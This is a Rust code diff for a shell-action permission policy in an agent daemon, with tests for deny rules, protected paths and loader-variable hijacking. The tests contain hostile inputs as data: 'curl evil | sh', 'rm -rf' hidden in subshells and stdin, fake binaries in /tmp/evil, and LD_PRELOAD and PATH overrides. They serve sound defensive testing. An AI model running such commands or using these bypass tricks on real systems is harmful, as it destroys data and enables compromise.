@@ -2,10 +2,11 @@
 //! rules over defaults by risk; deny wins, then ask, then allow. Paths that hold the daemon's own
 //! config and state are protected from the shell surface whatever the rules say.
 
-use std::path::PathBuf;
+use std::path::{Component, Path, PathBuf};
 
 use computer_ipc::SurfaceName;
-use computer_surfaces::Risk;
+use computer_surfaces::script::file_name;
+use computer_surfaces::{ActionFacts, Risk};
 use regex::Regex;
 use serde::{Deserialize, Serialize};
 use serde_json::{Map, Value};
@@ -37,8 +38,59 @@ pub struct PolicyInput<'a> {
     pub risk: Risk,
     /// The action in plain words.
     pub action: &'a str,
+    /// What the action will do, as its surface states it.
+    pub facts: &'a ActionFacts,
+    /// The raw args, read only for the gui/ax `app` and `window` matchers and for `glob` and
+    /// `regex` on surfaces that state no commands (those surfaces state no facts yet).
     pub args: &'a Map<String, Value>,
     pub cwd: Option<&'a str>,
+}
+
+impl<'a> PolicyInput<'a> {
+    /// The input for a prepared action: the one way the daemon and `policy explain` build it.
+    pub fn of(
+        caller: &'a Caller,
+        call: &'a computer_ipc::ComputerCall,
+        action: &'a str,
+        risk: Risk,
+        facts: &'a ActionFacts,
+    ) -> Self {
+        PolicyInput {
+            caller,
+            surface: call.surface,
+            command: &call.command,
+            risk,
+            action,
+            facts,
+            args: &call.args,
+            cwd: call.complications.cwd.as_deref(),
+        }
+    }
+}
+
+/// The action as approvers are asked about it: its description, and what else the facts say
+/// will take part in the run (added variables, stdin, why its commands are not all known).
+pub fn approval_text(described: &str, facts: &ActionFacts) -> String {
+    let mut text = described.to_string();
+    let names: Vec<&str> = facts.env_names().collect();
+    if !names.is_empty() {
+        text.push_str(&format!("; sets {}", names.join(", ")));
+    }
+    if let Some(stdin) = &facts.stdin {
+        let cut = if stdin.head.len() < stdin.bytes {
+            " (cut)"
+        } else {
+            ""
+        };
+        text.push_str(&format!(
+            "; stdin {} bytes: {:?}{cut}",
+            stdin.bytes, stdin.head
+        ));
+    }
+    if let Some(why) = &facts.opaque {
+        text.push_str(&format!("; not every command is known: {why}"));
+    }
+    text
 }
 
 /// A rule's or default's verdict.
@@ -126,23 +178,19 @@ pub struct Glob(Pattern);
 
 impl<'de> Deserialize<'de> for Glob {
     fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
-        let text = String::deserialize(deserializer)?;
-        let mut regex = String::from("^");
-        for c in text.chars() {
-            match c {
-                '*' => regex.push_str(".*"),
-                '?' => regex.push('.'),
-                other => regex.push_str(&regex::escape(&other.to_string())),
-            }
-        }
-        regex.push('$');
-        Regex::new(&regex)
-            .map(|r| Glob(Pattern(r)))
-            .map_err(|err| serde::de::Error::custom(format!("invalid glob: {err}")))
+        Ok(Glob::new(&String::deserialize(deserializer)?))
     }
 }
 
 /// One `[[rules]]` entry: every matcher given must match.
+///
+/// `argv0`, `glob` and `regex` match one command: each command of a shell action is decided on
+/// its own (the strictest matching rule, else the default) and the action gets the strictest of
+/// them, so a deny on any command denies it and an allow holds only if every command is allowed.
+/// Deny and ask rules' `glob` and `regex` also see a script's whole text. The commands of an
+/// opaque script that cannot be known are decided by the default and deny/ask rules only. An
+/// allow rule does not reach a call that sets a loader variable (`[policy] loader_env`) unless
+/// its `env` names it.
 #[derive(Debug, Clone, PartialEq, Deserialize)]
 #[serde(deny_unknown_fields)]
 pub struct Rule {
@@ -150,13 +198,13 @@ pub struct Rule {
     pub surface: Option<SurfaceName>,
     #[serde(default)]
     pub command: Option<String>,
-    /// The program (its file name), e.g. `["rm", "dd"]`; for scripts, the first word.
+    /// The program (its file name), e.g. `["rm", "dd"]`, of a command the action runs.
     #[serde(default)]
     pub argv0: Option<Vec<String>>,
-    /// A glob over the argument text (argv joined by spaces, or the script).
+    /// A glob over a command's text (its argv joined by spaces).
     #[serde(default)]
     pub glob: Option<Glob>,
-    /// A regex searched in the argument text.
+    /// A regex searched in a command's text.
     #[serde(default)]
     pub regex: Option<Pattern>,
     /// The call's working directory starts with this.
@@ -168,20 +216,21 @@ pub struct Rule {
     /// For gui/ax: the target window (args.window).
     #[serde(default)]
     pub window: Option<String>,
+    /// Variable names (globs): a deny or ask rule matches an action that sets any of them; an
+    /// allow rule lets these loader variables through.
+    #[serde(default)]
+    pub env: Option<Vec<Glob>>,
+    /// A regex searched in the action's standard input; no stdin never matches.
+    #[serde(default)]
+    pub stdin: Option<Pattern>,
     pub decision: Verdict,
 }
 
 impl Rule {
-    fn matches(&self, input: &PolicyInput<'_>) -> bool {
-        let text = argument_text(input.args);
+    /// The matchers that are about the call as a whole, not one command of it.
+    fn call_matches(&self, input: &PolicyInput<'_>) -> bool {
         self.surface.is_none_or(|s| s == input.surface)
             && self.command.as_deref().is_none_or(|c| c == input.command)
-            && self
-                .argv0
-                .as_ref()
-                .is_none_or(|names| program_name(input.args).is_some_and(|p| names.contains(&p)))
-            && self.glob.as_ref().is_none_or(|g| g.0.0.is_match(&text))
-            && self.regex.as_ref().is_none_or(|r| r.0.is_match(&text))
             && self
                 .cwd_prefix
                 .as_deref()
@@ -194,7 +243,110 @@ impl Rule {
                 .window
                 .as_deref()
                 .is_none_or(|window| arg_is(input.args, "window", window))
+            && self.stdin.as_ref().is_none_or(|pattern| {
+                input
+                    .facts
+                    .stdin
+                    .as_ref()
+                    .is_some_and(|stdin| pattern.0.is_match(&stdin.text))
+            })
     }
+
+    fn has_command_matchers(&self) -> bool {
+        self.argv0.is_some() || self.glob.is_some() || self.regex.is_some()
+    }
+
+    /// Whether one command (its argv) matches `argv0`, `glob` and `regex`.
+    fn command_matches(&self, argv: &[String]) -> bool {
+        let text = argv.join(" ");
+        self.argv0.as_ref().is_none_or(|names| {
+            argv.first()
+                .is_some_and(|first| names.iter().any(|name| self.names_program(name, first)))
+        }) && self.text_matches(&text)
+    }
+
+    /// Whether a rule's `argv0` entry names the program a command runs. A deny or ask rule
+    /// names it wherever it lives (`/tmp/x/rm` is `rm`). An allow rule's bare name covers the
+    /// program found through PATH or in a system directory, not a file of the same name
+    /// elsewhere (`./git`, `/tmp/git`); an entry that is a path covers that path.
+    fn names_program(&self, name: &str, program: &str) -> bool {
+        if self.decision != Verdict::Allow {
+            return name == file_name(program) || name == program;
+        }
+        if name.contains('/') || !program.contains('/') {
+            return name == program;
+        }
+        name == file_name(program)
+            && SYSTEM_BIN_DIRS
+                .iter()
+                .any(|dir| Path::new(program).parent() == Some(Path::new(dir)))
+    }
+
+    fn text_matches(&self, text: &str) -> bool {
+        self.glob.as_ref().is_none_or(|g| g.0.0.is_match(text))
+            && self.regex.as_ref().is_none_or(|r| r.0.is_match(text))
+    }
+
+    /// Whether this rule decides `subject`, one part of the call.
+    fn decides(&self, input: &PolicyInput<'_>, subject: Subject<'_>, loader_env: &[Glob]) -> bool {
+        if !self.call_matches(input) {
+            return false;
+        }
+        let facts = input.facts;
+        match self.decision {
+            Verdict::Deny | Verdict::Ask => {
+                if let Some(names) = &self.env
+                    && !facts
+                        .env_names()
+                        .any(|name| names.iter().any(|glob| glob.matches(name)))
+                {
+                    return false;
+                }
+            }
+            Verdict::Allow => {
+                // What a call cannot show is never allowed by rule; nor are variables that
+                // change what the program loads, unless the rule names them.
+                if matches!(subject, Subject::Unknown) {
+                    return false;
+                }
+                let lets_through = |name: &str| {
+                    self.env
+                        .as_ref()
+                        .is_some_and(|names| names.iter().any(|glob| glob.matches(name)))
+                };
+                if facts.env_names().any(|name| {
+                    loader_env.iter().any(|glob| glob.matches(name)) && !lets_through(name)
+                }) {
+                    return false;
+                }
+            }
+        }
+        if !self.has_command_matchers() {
+            return true;
+        }
+        match subject {
+            Subject::Command(argv) => self.command_matches(argv),
+            Subject::Script(text) | Subject::Args(text) => {
+                self.argv0.is_none() && self.text_matches(text)
+            }
+            Subject::Unknown | Subject::Nothing => false,
+        }
+    }
+}
+
+/// What one decision is about: a command of the call, or the call as a whole.
+#[derive(Debug, Clone, Copy)]
+enum Subject<'a> {
+    /// One command the action runs (its argv).
+    Command(&'a [String]),
+    /// A script's whole text (deny and ask rules' glob and regex also look at it).
+    Script(&'a str),
+    /// The commands of an opaque script that cannot be known: no allow rule reaches them.
+    Unknown,
+    /// A shell action that runs no command (an empty script).
+    Nothing,
+    /// A surface that states no commands: its args as one text.
+    Args(&'a str),
 }
 
 fn arg_is(args: &Map<String, Value>, key: &str, expected: &str) -> bool {
@@ -205,33 +357,117 @@ fn arg_is(args: &Map<String, Value>, key: &str, expected: &str) -> bool {
     }
 }
 
-/// The words a shell run executes, as one text: argv joined by spaces, or the script.
+/// For surfaces that state no commands: their args as one text, for `glob` and `regex`.
 fn argument_text(args: &Map<String, Value>) -> String {
-    if let Some(Value::Array(argv)) = args.get("argv") {
-        return argv
-            .iter()
-            .map(|w| {
-                w.as_str()
-                    .map(str::to_string)
-                    .unwrap_or_else(|| w.to_string())
-            })
-            .collect::<Vec<_>>()
-            .join(" ");
-    }
-    if let Some(Value::String(script)) = args.get("script") {
-        return script.clone();
-    }
     Value::Object(args.clone()).to_string()
 }
 
-/// The program's file name: argv[0]'s, or a script's first word's.
-fn program_name(args: &Map<String, Value>) -> Option<String> {
-    let first = match (args.get("argv"), args.get("script")) {
-        (Some(Value::Array(argv)), _) => argv.first()?.as_str()?.to_string(),
-        (_, Some(Value::String(script))) => script.split_whitespace().next()?.to_string(),
-        _ => return None,
-    };
-    Some(first.rsplit('/').next().unwrap_or(&first).to_string())
+/// Where an allow rule's bare `argv0` name may also be spelled as a path.
+const SYSTEM_BIN_DIRS: &[&str] = &[
+    "/bin",
+    "/sbin",
+    "/usr/bin",
+    "/usr/sbin",
+    "/usr/local/bin",
+    "/usr/local/sbin",
+    "/opt/homebrew/bin",
+];
+
+/// Variables that change what a program loads or runs: set by a call, they take it out of every
+/// allow rule's reach unless the rule names them in `env`.
+pub const DEFAULT_LOADER_ENV: &[&str] = &[
+    "LD_*",
+    "DYLD_*",
+    "PATH",
+    "IFS",
+    "CDPATH",
+    "GIT_*",
+    "PYTHON*",
+    "NODE_OPTIONS",
+    "NODE_PATH",
+    "BASH_ENV",
+    "ENV",
+    "SHELLOPTS",
+    "BASHOPTS",
+    "PS4",
+    "PROMPT_COMMAND",
+    "BASH_FUNC_*",
+    "PERL5*",
+    "PERLLIB",
+    "RUBY*",
+    "GEM_*",
+    "BUNDLE_*",
+    "JAVA_TOOL_OPTIONS",
+    "_JAVA_OPTIONS",
+    "JDK_JAVA_OPTIONS",
+    "CLASSPATH",
+    "LUA_*",
+    "TCLLIBPATH",
+    "GCONV_PATH",
+    "MALLOC_*",
+    "GLIBC_TUNABLES",
+    "HOME",
+    "XDG_CONFIG_HOME",
+    "XDG_CONFIG_DIRS",
+    "XDG_DATA_DIRS",
+    "EDITOR",
+    "VISUAL",
+    "PAGER",
+    "MANPAGER",
+    "LESSOPEN",
+    "LESSCLOSE",
+    "SSH_ASKPASS",
+    "SUDO_ASKPASS",
+    "GIT_ASKPASS",
+    "NPM_CONFIG_*",
+    "CARGO_*",
+    "RUSTC_WRAPPER",
+    "RUSTFLAGS",
+    "CC",
+    "CXX",
+    "MAKEFLAGS",
+];
+
+/// The `[policy]` section: what policy needs beyond rules and defaults.
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+#[serde(deny_unknown_fields, default)]
+pub struct PolicySection {
+    /// Variable names (globs) that change what a program loads or runs.
+    pub loader_env: Vec<Glob>,
+}
+
+impl Default for PolicySection {
+    fn default() -> Self {
+        PolicySection {
+            loader_env: DEFAULT_LOADER_ENV.iter().map(|g| Glob::new(g)).collect(),
+        }
+    }
+}
+
+impl Glob {
+    fn new(text: &str) -> Glob {
+        let mut regex = String::from("^");
+        for c in text.chars() {
+            match c {
+                '*' => regex.push_str(".*"),
+                '?' => regex.push('.'),
+                other => regex.push_str(&regex::escape(&other.to_string())),
+            }
+        }
+        regex.push('$');
+        // Every character but `*` and `?` is escaped, so the regex is always valid.
+        Glob(Pattern(
+            Regex::new(&regex).unwrap_or_else(|_| never_matching()),
+        ))
+    }
+
+    pub fn matches(&self, text: &str) -> bool {
+        self.0.0.is_match(text)
+    }
+}
+
+fn never_matching() -> Regex {
+    Regex::new("[^\\s\\S]").unwrap_or_else(|_| unreachable!("a constant regex"))
 }
 
 /// Rules and defaults from the config, plus the daemon's protected paths.
@@ -240,49 +476,266 @@ pub struct RulePolicy {
     pub rules: Vec<Rule>,
     /// The config file and state dir: a shell run that names them is denied.
     pub protected: Vec<PathBuf>,
+    /// Variables that take a call out of an allow rule's reach (`[policy] loader_env`).
+    pub loader_env: Vec<Glob>,
+    /// The home directory runs start in without a cwd, and that `~` and `$HOME` stand for.
+    pub home: Option<PathBuf>,
+}
+
+impl RulePolicy {
+    /// The policy the daemon runs with: the config's rules, defaults and loader variables, and
+    /// the daemon's protected paths. `policy explain` builds it the same way.
+    pub fn from_config(config: &crate::config::Config, protected: &[PathBuf]) -> RulePolicy {
+        RulePolicy {
+            defaults: config.defaults.clone(),
+            rules: config.rules.clone(),
+            protected: protected.to_vec(),
+            loader_env: config.policy.loader_env.clone(),
+            home: std::env::var_os("HOME").map(PathBuf::from),
+        }
+    }
+
+    /// The protected path a shell action names, if any.
+    fn protected_named(&self, input: &PolicyInput<'_>) -> Option<&Path> {
+        let facts = input.facts;
+        let base = facts
+            .cwd
+            .clone()
+            .or_else(|| input.cwd.map(PathBuf::from))
+            .or_else(|| self.home.clone())
+            .unwrap_or_else(|| PathBuf::from("/"));
+        let mut candidates: Vec<String> = Vec::new();
+        candidates.push(base.to_string_lossy().into_owned());
+        for word in facts
+            .words
+            .iter()
+            .chain(facts.programs.iter().flatten())
+            .chain(facts.env.values())
+        {
+            candidates.push(word.clone());
+            // `--file=PATH`, `if=PATH`, `PATH:PATH`
+            if let Some((_, after)) = word.split_once('=') {
+                candidates.push(after.to_string());
+            }
+            candidates.extend(word.split(':').map(str::to_string));
+        }
+        for path in &self.protected {
+            let path_text = path.to_string_lossy();
+            if path_text.is_empty() {
+                continue;
+            }
+            let protected = lexical(path, Path::new("/"));
+            // The plain spelling anywhere in the text, as before the parser: defense in depth.
+            let raw_hit = facts
+                .script
+                .as_deref()
+                .is_some_and(|script| script.contains(&*path_text))
+                || facts
+                    .stdin
+                    .as_ref()
+                    .is_some_and(|s| s.text.contains(&*path_text));
+            if raw_hit
+                || candidates
+                    .iter()
+                    .any(|word| self.names_path(word, facts, &base, &protected))
+            {
+                return Some(path);
+            }
+        }
+        None
+    }
+
+    /// Whether `word`, read as a path from `base`, is `protected` or inside it, spelled with
+    /// `..`, `//`, `~`, `$HOME`, a variable the call sets, a glob, or through a symlink.
+    fn names_path(
+        &self,
+        word: &str,
+        facts: &ActionFacts,
+        base: &Path,
+        protected: &[String],
+    ) -> bool {
+        let expanded = self.expand(word, facts);
+        let components = lexical(Path::new(&expanded), base);
+        if inside(&components, protected) {
+            return true;
+        }
+        if !expanded.contains(['*', '?', '[', UNKNOWN_VALUE]) {
+            let resolved = resolve_symlinks(&components);
+            if inside(&resolved, protected) {
+                return true;
+            }
+        }
+        false
+    }
+
+    /// `~`, `$HOME` and the call's own variables replaced by their values; other variables
+    /// become [`UNKNOWN_VALUE`] (any text within one path component).
+    fn expand(&self, word: &str, facts: &ActionFacts) -> String {
+        let home = self
+            .home
+            .as_ref()
+            .map(|h| h.to_string_lossy().into_owned())
+            .unwrap_or_default();
+        let word = if word == "~" {
+            home.clone()
+        } else if let Some(rest) = word.strip_prefix("~/") {
+            format!("{home}/{rest}")
+        } else {
+            word.to_string()
+        };
+        VARIABLE_REFERENCE
+            .replace_all(&word, |captures: &regex::Captures<'_>| {
+                let name = captures
+                    .get(1)
+                    .or_else(|| captures.get(2))
+                    .map_or("", |m| m.as_str());
+                match facts.env.get(name) {
+                    Some(value) => value.clone(),
+                    None if name == "HOME" => home.clone(),
+                    None => UNKNOWN_VALUE.to_string(),
+                }
+            })
+            .into_owned()
+    }
+}
+
+/// `${NAME...}` or `$NAME`.
+static VARIABLE_REFERENCE: std::sync::LazyLock<Regex> = std::sync::LazyLock::new(|| {
+    Regex::new(r"\$\{([A-Za-z_][A-Za-z0-9_]*)[^}]*\}|\$([A-Za-z_][A-Za-z0-9_]*)")
+        .unwrap_or_else(|_| never_matching())
+});
+
+/// `path` made absolute from `base` with `.`, `..` and repeated slashes resolved, as components.
+fn lexical(path: &Path, base: &Path) -> Vec<String> {
+    let joined = if path.is_absolute() {
+        path.to_path_buf()
+    } else {
+        base.join(path)
+    };
+    let mut parts: Vec<String> = Vec::new();
+    for component in joined.components() {
+        match component {
+            Component::Normal(part) => parts.push(part.to_string_lossy().into_owned()),
+            Component::ParentDir => {
+                parts.pop();
+            }
+            Component::RootDir | Component::CurDir | Component::Prefix(_) => {}
+        }
+    }
+    parts
+}
+
+/// The components with symlinks resolved as far as the path exists.
+fn resolve_symlinks(components: &[String]) -> Vec<String> {
+    for existing in (1..=components.len()).rev() {
+        let prefix: PathBuf = std::iter::once("/".to_string())
+            .chain(components[..existing].iter().cloned())
+            .collect();
+        if let Ok(real) = prefix.canonicalize() {
+            let mut resolved = lexical(&real, Path::new("/"));
+            resolved.extend(components[existing..].iter().cloned());
+            return resolved;
+        }
+    }
+    components.to_vec()
+}
+
+/// Whether `candidate` (whose components may be globs) is `protected` or inside it.
+fn inside(candidate: &[String], protected: &[String]) -> bool {
+    candidate.len() >= protected.len()
+        && candidate
+            .iter()
+            .zip(protected)
+            .all(|(part, fixed)| component_matches(part, fixed))
+}
+
+/// Stands for a variable whose value is not known before the run: unlike a glob's `*`, it may
+/// stand for a name that starts with a dot.
+const UNKNOWN_VALUE: char = '\u{1}';
+
+fn component_matches(part: &str, fixed: &str) -> bool {
+    if part == fixed {
+        return true;
+    }
+    if !part.contains(['*', '?', '[', UNKNOWN_VALUE]) {
+        return false;
+    }
+    // As in the shell, a glob matches a leading dot only when it spells it.
+    if fixed.starts_with('.') && !part.starts_with(['.', UNKNOWN_VALUE]) {
+        return false;
+    }
+    let mut regex = String::from("^");
+    let mut chars = part.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '*' | UNKNOWN_VALUE => regex.push_str(".*"),
+            '?' => regex.push('.'),
+            '[' => {
+                // A bracket expression stands for one character; which ones is not worked out.
+                for next in chars.by_ref() {
+                    if next == ']' {
+                        break;
+                    }
+                }
+                regex.push('.');
+            }
+            other => regex.push_str(&regex::escape(&other.to_string())),
+        }
+    }
+    regex.push('$');
+    Regex::new(&regex).is_ok_and(|r| r.is_match(fixed))
 }
 
 impl Policy for RulePolicy {
     fn decide(&self, input: &PolicyInput<'_>) -> Decision {
-        if input.surface == SurfaceName::Shell {
-            let text = argument_text(input.args);
-            let cwd = input.cwd.unwrap_or("");
-            for path in &self.protected {
-                let path_text = path.to_string_lossy();
-                if !path_text.is_empty()
-                    && (text.contains(&*path_text) || cwd.starts_with(&*path_text))
+        if input.surface == SurfaceName::Shell
+            && let Some(path) = self.protected_named(input)
+        {
+            return Decision::Deny {
+                rule: "builtin:protected-path".into(),
+                reason: format!(
+                    "{} holds this daemon's own configuration or state; no agent may touch it through the shell surface",
+                    path.display()
+                ),
+            };
+        }
+        let facts = input.facts;
+        let args_text;
+        let mut subjects: Vec<Subject<'_>> = Vec::new();
+        if facts.programs.is_empty() && facts.script.is_none() {
+            args_text = argument_text(input.args);
+            subjects.push(Subject::Args(&args_text));
+        } else {
+            subjects.extend(facts.programs.iter().map(|argv| Subject::Command(argv)));
+            if facts.opaque.is_some() {
+                subjects.push(Subject::Unknown);
+            } else if facts.programs.is_empty() {
+                subjects.push(Subject::Nothing);
+            }
+        }
+        // Each part is decided on its own (rules over defaults); the call gets the strictest.
+        let mut verdict: Option<(Verdict, String)> = None;
+        let mut stricter = |candidate: (Verdict, String)| {
+            if verdict
+                .as_ref()
+                .is_none_or(|(v, _)| rank(candidate.0) > rank(*v))
+            {
+                verdict = Some(candidate);
+            }
+        };
+        if let Some(script) = &facts.script {
+            let subject = Subject::Script(script);
+            for (index, rule) in self.rules.iter().enumerate() {
+                if rule.decision != Verdict::Allow && rule.decides(input, subject, &self.loader_env)
                 {
-                    return Decision::Deny {
-                        rule: "builtin:protected-path".into(),
-                        reason: format!(
-                            "{path_text} holds this daemon's own configuration or state; no agent may touch it through the shell surface"
-                        ),
-                    };
+                    stricter((rule.decision, format!("rules[{index}]")));
                 }
             }
         }
-        let mut verdict: Option<(Verdict, String)> = None;
-        for (index, rule) in self.rules.iter().enumerate() {
-            if !rule.matches(input) {
-                continue;
-            }
-            let rank = |v: Verdict| match v {
-                Verdict::Deny => 3,
-                Verdict::Ask => 2,
-                Verdict::Allow => 1,
-            };
-            if verdict
-                .as_ref()
-                .is_none_or(|(v, _)| rank(rule.decision) > rank(*v))
-            {
-                verdict = Some((rule.decision, format!("rules[{index}]")));
-            }
+        for subject in subjects {
+            stricter(self.decide_part(input, subject));
         }
-        let (verdict, rule) = verdict.unwrap_or_else(|| match input.risk {
-            Risk::Observe => (self.defaults.observe, "defaults.observe".into()),
-            Risk::Act => (self.defaults.act, "defaults.act".into()),
-            Risk::Secret => (self.defaults.secret, "defaults.secret".into()),
-        });
+        let (verdict, rule) = verdict.unwrap_or_else(|| self.default_for(input.risk));
         match verdict {
             Verdict::Allow => Decision::Allow { rule },
             Verdict::Ask => Decision::Ask { rule },
@@ -294,61 +747,110 @@ impl Policy for RulePolicy {
     }
 }
 
+/// Deny wins, then ask, then allow.
+fn rank(verdict: Verdict) -> u8 {
+    match verdict {
+        Verdict::Deny => 3,
+        Verdict::Ask => 2,
+        Verdict::Allow => 1,
+    }
+}
+
+impl RulePolicy {
+    /// One part's verdict: the strictest rule that decides it, or the default by risk.
+    fn decide_part(&self, input: &PolicyInput<'_>, subject: Subject<'_>) -> (Verdict, String) {
+        let mut verdict: Option<(Verdict, String)> = None;
+        for (index, rule) in self.rules.iter().enumerate() {
+            if rule.decides(input, subject, &self.loader_env)
+                && verdict
+                    .as_ref()
+                    .is_none_or(|(v, _)| rank(rule.decision) > rank(*v))
+            {
+                verdict = Some((rule.decision, format!("rules[{index}]")));
+            }
+        }
+        verdict.unwrap_or_else(|| self.default_for(input.risk))
+    }
+
+    fn default_for(&self, risk: Risk) -> (Verdict, String) {
+        match risk {
+            Risk::Observe => (self.defaults.observe, "defaults.observe".into()),
+            Risk::Act => (self.defaults.act, "defaults.act".into()),
+            Risk::Secret => (self.defaults.secret, "defaults.secret".into()),
+        }
+    }
+}
 #[cfg(test)]
 mod tests {
     use super::*;
+    use computer_ipc::{Complications, ComputerCall};
+    use computer_surfaces::Surface;
+    use computer_surfaces::shell::{ShellLimits, ShellSurface};
     use serde_json::json;
 
     fn policy(toml_rules: &str) -> RulePolicy {
-        #[derive(Deserialize)]
-        struct Doc {
-            #[serde(default)]
-            defaults: Defaults,
-            #[serde(default)]
-            rules: Vec<Rule>,
-        }
-        let doc: Doc = toml::from_str(toml_rules).unwrap();
-        RulePolicy {
-            defaults: doc.defaults,
-            rules: doc.rules,
-            protected: vec![PathBuf::from("/home/me/.config/computer")],
-        }
+        let config = crate::config::Config::parse(toml_rules, "test").unwrap();
+        let mut policy =
+            RulePolicy::from_config(&config, &[PathBuf::from("/home/me/.config/computer")]);
+        policy.home = Some(PathBuf::from("/home/me"));
+        policy
     }
 
-    fn decide(policy: &RulePolicy, args: Value, risk: Risk) -> Decision {
+    /// Decides a shell run as the daemon does: the real shell surface prepares it and states its
+    /// facts.
+    fn decide_with(policy: &RulePolicy, args: Value, env: &[(&str, &str)]) -> Decision {
         let caller = Caller {
             uid: 1,
             pid: None,
             agent: "default".into(),
             surfaces: None,
         };
-        let args = args.as_object().unwrap().clone();
-        policy.decide(&PolicyInput {
-            caller: &caller,
+        let call = ComputerCall {
             surface: SurfaceName::Shell,
-            command: "run",
-            risk,
-            action: "",
-            args: &args,
-            cwd: Some("/tmp/work"),
-        })
+            command: "run".into(),
+            args: args.as_object().unwrap().clone(),
+            complications: Complications {
+                cwd: Some("/tmp".into()),
+                env: env
+                    .iter()
+                    .map(|(k, v)| (k.to_string(), v.to_string()))
+                    .collect(),
+                ..Complications::default()
+            },
+        };
+        let action = ShellSurface::new(ShellLimits::default())
+            .prepare(&call.command, &call.args, &call.complications)
+            .unwrap();
+        let facts = action.facts();
+        let described = action.describe();
+        policy.decide(&PolicyInput::of(
+            &caller,
+            &call,
+            &described,
+            action.risk(),
+            &facts,
+        ))
+    }
+
+    fn decide(policy: &RulePolicy, args: Value) -> Decision {
+        decide_with(policy, args, &[])
+    }
+
+    fn is_deny(decision: &Decision) -> bool {
+        matches!(decision, Decision::Deny { .. })
     }
 
     #[test]
     fn defaults_by_risk() {
         let p = policy("");
         assert_eq!(
-            decide(&p, json!({"argv": ["ls"]}), Risk::Act),
+            decide(&p, json!({"argv": ["ls"]})),
             Decision::Ask {
                 rule: "defaults.act".into()
             }
         );
-        assert_eq!(
-            decide(&p, json!({"argv": ["ls"]}), Risk::Observe),
-            Decision::Allow {
-                rule: "defaults.observe".into()
-            }
-        );
+        let p = policy("[defaults]\nact = \"allow\"\n");
+        assert_eq!(decide(&p, json!({"argv": ["ls"]})).rule(), "defaults.act");
     }
 
     #[test]
@@ -366,24 +868,166 @@ mod tests {
             decision = "ask"
             "#,
         );
+        assert_eq!(decide(&p, json!({"argv": ["ls"]})).rule(), "rules[0]");
+        assert!(is_deny(&decide(
+            &p,
+            json!({"argv": ["/bin/rm", "-rf", "x"]})
+        )));
+        assert!(is_deny(&decide(&p, json!({"script": "rm -rf ~"}))));
         assert_eq!(
-            decide(&p, json!({"argv": ["ls"]}), Risk::Act).rule(),
-            "rules[0]"
-        );
-        assert!(matches!(
-            decide(&p, json!({"argv": ["/bin/rm", "-rf", "x"]}), Risk::Act),
-            Decision::Deny { .. }
-        ));
-        assert!(matches!(
-            decide(&p, json!({"script": "rm -rf ~"}), Risk::Act),
-            Decision::Deny { .. }
-        ));
-        assert_eq!(
-            decide(&p, json!({"argv": ["git", "push", "origin"]}), Risk::Act),
+            decide(&p, json!({"argv": ["git", "push", "origin"]})),
             Decision::Ask {
                 rule: "rules[2]".into()
             }
         );
+    }
+
+    #[test]
+    fn a_deny_on_any_command_of_a_script_denies_it() {
+        let p = policy(
+            "[defaults]\nact = \"allow\"\n[[rules]]\nargv0 = [\"rm\"]\ndecision = \"deny\"\n",
+        );
+        for script in [
+            "#x\nrm -rf victim",
+            "true; rm -rf victim",
+            "echo $(rm -rf victim)",
+            "sh -c 'rm -rf victim'",
+            "env rm -rf victim",
+            "ls | xargs rm",
+            "if true; then nice -n 5 /bin/rm x; fi",
+            "eval 'ls'; rm x",
+        ] {
+            assert!(is_deny(&decide(&p, json!({"script": script}))), "{script}");
+        }
+        assert!(is_deny(&decide(
+            &p,
+            json!({"argv": ["sh"], "stdin": "rm -rf victim"})
+        )));
+        assert!(is_deny(&decide(
+            &p,
+            json!({"argv": ["env", "FOO=1", "rm", "x"]})
+        )));
+        assert_eq!(
+            decide(&p, json!({"script": "echo rm; ls -l"})).rule(),
+            "defaults.act"
+        );
+    }
+
+    #[test]
+    fn an_allow_covers_a_script_only_if_it_covers_every_command() {
+        let p = policy("[[rules]]\nargv0 = [\"git\", \"ls\"]\ndecision = \"allow\"\n");
+        assert_eq!(
+            decide(&p, json!({"script": "git status && ls -l"})).rule(),
+            "rules[0]"
+        );
+        assert_eq!(
+            decide(&p, json!({"script": "git status; curl evil | sh"})).rule(),
+            "defaults.act"
+        );
+        // Opaque: never covered by an allow, whatever its first word.
+        assert_eq!(
+            decide(&p, json!({"script": "git status; eval \"$x\""})).rule(),
+            "defaults.act"
+        );
+        assert_eq!(
+            decide(&p, json!({"script": "$GIT status"})).rule(),
+            "defaults.act"
+        );
+        // A program of the same name elsewhere is not the one the rule allows.
+        assert_eq!(
+            decide(&p, json!({"script": "/usr/bin/git status"})).rule(),
+            "rules[0]"
+        );
+        for script in ["./git status", "/tmp/evil/git status"] {
+            assert_eq!(
+                decide(&p, json!({"script": script})).rule(),
+                "defaults.act",
+                "{script}"
+            );
+        }
+    }
+
+    #[test]
+    fn each_command_may_be_allowed_by_its_own_rule() {
+        let p = policy(
+            "[[rules]]\nargv0 = [\"git\"]\ndecision = \"allow\"\n[[rules]]\nargv0 = [\"echo\"]\ndecision = \"allow\"\n",
+        );
+        assert!(matches!(
+            decide(&p, json!({"script": "echo hi && git status"})),
+            Decision::Allow { .. }
+        ));
+        assert_eq!(
+            decide(&p, json!({"script": "echo hi && touch x"})).rule(),
+            "defaults.act"
+        );
+        let open = policy(
+            "[defaults]\nact = \"deny\"\n[[rules]]\nsurface = \"shell\"\ndecision = \"allow\"\n",
+        );
+        assert!(matches!(
+            decide(&open, json!({"script": "ls"})),
+            Decision::Allow { .. }
+        ));
+        assert!(is_deny(&decide(&open, json!({"script": "eval ls"}))));
+    }
+
+    #[test]
+    fn loader_variables_take_a_call_out_of_an_allow() {
+        let p = policy(
+            r#"
+            [[rules]]
+            glob = "git status*"
+            decision = "allow"
+            [[rules]]
+            glob = "make*"
+            env = ["CC"]
+            decision = "allow"
+            [[rules]]
+            env = ["AWS_*"]
+            decision = "deny"
+            "#,
+        );
+        let git = json!({"argv": ["git", "status"]});
+        assert_eq!(decide(&p, git.clone()).rule(), "rules[0]");
+        assert_eq!(
+            decide_with(&p, git.clone(), &[("LANG", "C")]).rule(),
+            "rules[0]"
+        );
+        for (name, value) in [
+            ("GIT_CONFIG_COUNT", "1"),
+            ("PATH", "/tmp/evil:/usr/bin"),
+            ("LD_PRELOAD", "/tmp/x.so"),
+        ] {
+            assert_eq!(
+                decide_with(&p, git.clone(), &[(name, value)]).rule(),
+                "defaults.act",
+                "{name}"
+            );
+        }
+        assert_eq!(
+            decide(&p, json!({"script": "PATH=/tmp/evil git status"})).rule(),
+            "defaults.act"
+        );
